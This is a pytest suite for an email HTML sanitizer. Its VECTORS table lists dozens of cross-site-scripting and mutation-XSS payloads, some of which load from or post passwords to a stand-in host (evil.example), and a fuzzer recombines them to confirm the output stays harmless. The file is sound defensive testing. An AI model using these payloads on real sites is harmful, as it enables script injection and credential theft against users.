"""A stranger's HTML loads nothing, leads nowhere and runs nothing, however it is written."""

from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parsers.safe_html import LINK_TARGET, SafeHtml, safe_html

OWN = "data:image/webp;base64,AAAA"
_NAMES = """
p div br hr span b strong i em u s strike del ins sub sup small big center h1 h2 h3 h4 h5 h6 ul ol li dl dt dd
blockquote pre code tt q cite abbr address table caption thead tbody tfoot tr td th img
"""
HARMLESS = frozenset(_NAMES.split())

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script by newline": "<script\n>alert(1)</script\n>",
    "handler": '<img src="cid:a" onerror=alert(1) onload="alert(2)">',
    "handler without blanks": "<img/src=x/onerror=alert(1)//>",
    "body handler": "<body onload=alert(1)><p onclick=alert(1)>x",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "svg script": "<svg><script href='data:,alert(1)'/></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    "svg foreign": '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    "style element": "<style>@import 'http://evil.example/a.css'; body{background:url(http://evil.example/b)}</style>",
    "style attribute": '<div style="background:url(http://evil.example/b);position:fixed">x</div>',
    "style escaped": r'<div style="b\61 ckground:u\72l(//evil.example)">x</div>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/"><a href="x">x</a>',
    "link": '<link rel="stylesheet" href="http://evil.example/a.css"><link rel=prefetch href=//evil.example>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in pieces": '<a href="java&#x0A;script:alert(1)">x</a><a href=" &#14; javascript:alert(1)">y</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html picture": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "data svg picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "remote pictures": '<img src="http://evil.example/p.gif"><img src=//evil.example><img srcset="//evil.example 2x">',
    "backgrounds": '<table background="http://evil.example/"><td background="//evil.example/"></table>',
    "picture element": '<picture><source srcset="//evil.example/x"><img src="x"></picture>',
    "media": "<video poster=//evil.example/p src=//evil.example/v></video><audio src=//evil.example autoplay>",
    "iframe": "<iframe src=http://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=http://evil.example></object><embed src=//evil.example><applet code=x></applet>",
    "form": '<form action="//evil.example"><input name=p type=password><button formaction=//evil.example>go</form>',
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "mathml": '<math href="javascript:alert(1)"><mtext><a xlink:href="javascript:alert(1)">x</a></math>',
    "mathml mutation": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "form mutation": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"
    ),
    "svg mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "noembed mutation": '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "xmp mutation": '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
    "textarea mutation": '<textarea><p title="</textarea><img src onerror=alert(1)>"></textarea>',
    "title mutation": '<title><p title="</title><img src onerror=alert(1)>"></title>',
    "select mutation": "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src onerror=alert(1)>'>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing": "<?xml version='1.0'?><?import namespace='t' implementation='#default#time2'>",
    "backticks": '<img src=`x` onerror=`alert(1)`><img alt="`><script>alert(1)</script>">',
    "alt that is markup": '<img src=x alt="<script>alert(1)</script>"><img src=cid:a alt=\'" onerror="alert(1)\'>',
    "link text that is markup": '<a href="http://evil.example/&quot;><script>alert(1)</script>">&lt;script&gt;</a>',
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><img \0src=x on\0error=alert(1)>",
    "entities without end": "<img src=x onerror&#61;alert(1)>&#x3c;script&#x3e;alert(1)&lt/script&gt",
    "ids and classes": '<p id="csrf" class="button primary" name="location" is="x" slot="y">x</p>',
    "spans of tables": '<table><td colspan="1000000000" rowspan="-1">x<td colspan="3">',
    "custom elements": "<x-evil onfocus=alert(1) autofocus tabindex=1>x</x-evil>",
    "dialog": "<dialog open>x</dialog><details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "portal": "<portal src=//evil.example></portal><fencedframe></fencedframe><frameset><frame src=//evil.example>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "tracking link": "<a ping=//evil.example href=http://evil.example target=_top download>x</a>",
    "charset": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}


class Seen(HTMLParser):
    """Every element and attribute of a text, by another parser than the one that cleaned it."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def cleaned(source: str) -> SafeHtml:
    found = safe_html(source, lambda address: OWN if address == "cid:a" else None)
    assert found is not None
    return found


def assert_harmless(found: str) -> None:
    seen = Seen()
    seen.feed(found)
    seen.close()
    assert not seen.others
    for tag, attributes in seen.elements:
        assert tag in HARMLESS
        for name, value in attributes.items():
            match tag, name:
                case "img", "src":
                    assert value == OWN
                case "img", "alt":
                    pass
                case "td" | "th", "colspan" | "rowspan":
                    assert value
                    assert 0 < int(value) <= 50
                case "span", "class":
                    assert value in {LINK_TARGET, ""}
                case _:
                    pytest.fail(f"{tag} {name}")
    # As a browser's parser understands it once more, it is the same: nothing is left to mutate.
    kept = {"img": {"src", "alt"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}, "span": {"class"}}
    again = nh3.clean(found, tags=set(HARMLESS), attributes=kept, url_schemes={"data"}, link_rel=None)
    assert again == found


@pytest.mark.parametrize("source", VECTORS.values(), ids=VECTORS.keys())
def test_hostile_html_is_harmless(source: str) -> None:
    assert_harmless(cleaned(source).html)
    assert_harmless(cleaned(f"<p>ก{source}<table><tr><td>ข</table>ค").html)


_OPENED = "svg math style title noscript textarea mtext mglyph table td p a form template xmp"
_CLOSED = "svg math style title noscript textarea mtext table p a form select"
_MARKS = ["a", "\0", "svg", "style", "<!--", "-->", "<img src=x onerror=alert(1)>", "title=", *"<>\"'=/ &;-!`"]
PIECES = st.sampled_from(
    [*_MARKS, *(f"<{name}>" for name in _OPENED.split()), *(f"</{name}>" for name in _CLOSED.split())]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_any_heap_of_pieces_is_harmless(source: str) -> None:
    assert_harmless(cleaned(source).html)


def test_a_letter_stays_a_letter() -> None:
    source = "<p>เรียน <b>ศึกษาธิการ</b></p><ul><li>หนึ่ง</ul><table><tr><td>ก<td>ข</table>a &lt; b &amp; c"
    assert cleaned(source).html == (
        "<p>เรียน <b>ศึกษาธิการ</b></p><ul><li>หนึ่ง</li></ul>"
        "<table><tbody><tr><td>ก</td><td>ข</td></tr></tbody></table>a &lt; b &amp; c"
    )


def test_a_link_is_its_text_with_its_target() -> None:
    found = cleaned('<a href="http://evil.example/a?b&amp;c">ธนาคารของท่าน</a>').html
    assert found == f'ธนาคารของท่าน <span class="{LINK_TARGET}">‹http://evil.example/a?b&amp;c›</span>'
    assert cleaned('<a href="http://a.example/">http://a.example/</a>').html == "http://a.example/"
    assert cleaned('<a href="mailto:a@b.example">เขียนถึง').html.endswith("‹mailto:a@b.example›</span>")


def test_writing_direction_cannot_disguise_a_target() -> None:
    assert "‹http://a.example/gpj.exe›" in cleaned('<a href="http://a.example/\u202egpj.exe">x</a>').html


def test_pictures_of_the_mail_are_shown_others_are_counted_and_described() -> None:
    found = cleaned('<img src="cid:a" alt="แผนที่"><img src="https://t.example/p.gif" alt="โลโก้"><img src="cid:b">')
    assert found.html == f'<img src="{OWN}" alt="แผนที่">[โลโก้]'
    assert found.remote_pictures == 1


def test_only_pictures_drawn_anew_pass_whatever_the_giver_says() -> None:
    for bad in ("http://evil.example/", "data:image/svg+xml;base64,AAAA", "data:text/html;base64,AAAA", "x"):
        found = safe_html("<img src=cid:a>", lambda _, bad=bad: bad)  # type: ignore[misc]
        assert found is not None
        assert "evil" not in found.html
        assert "data:" not in found.html


@pytest.mark.parametrize(
    "source",
    ["<div>" * 200_000, "<table><tr><td>" * 60_000, "<b><i>" * 300_000, "<font color=red>" * 100_000],
    ids=["boxes", "tables", "letters", "colours"],
)
def test_html_nested_beyond_all_measure_is_not_opened(source: str) -> None:
    assert safe_html(source + "x", lambda _: None) is None


@pytest.mark.parametrize(
    "source",
    ["<a '" * 100_000, "<p>x" * 20_000, "<img src=cid:x>" * 20_000, "<" * 50_000, "&" * 50_000],
    ids=["tags", "paragraphs", "pictures", "less", "ampersands"],
)
def test_hostile_html_has_an_answer(source: str) -> None:
    assert_harmless(cleaned(source).html)
